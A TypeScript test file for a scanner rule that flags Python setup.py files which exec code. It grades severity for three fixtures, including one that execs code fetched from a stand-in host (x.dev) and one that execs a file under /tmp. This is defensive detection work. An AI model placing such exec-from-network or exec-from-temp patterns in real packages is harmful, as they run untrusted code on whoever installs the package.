import { expect, it } from 'vitest';
import { hitsOf } from '../../testing/examples.ts';
import { pythonSetupRunsCode } from './python-setup-runs-code.ts';

it.each([
  ["read(os.path.join('aiohttp_cors', '__about__.py'))", 'medium'],
  ["get('http://x.dev/__about__.py')", 'high'],
  ["read('/tmp/about.py')", 'high'],
])('is as grave as what is run: %s', async (code, severity) => {
  const files = { 'setup.py': `import os\nfrom setuptools import setup\nexec(${code}, about)\nsetup(name='a')\n` };
  const [hit] = await hitsOf(pythonSetupRunsCode, { kind: 'repository', files });
  expect(hit?.severity).toBe(severity);
});
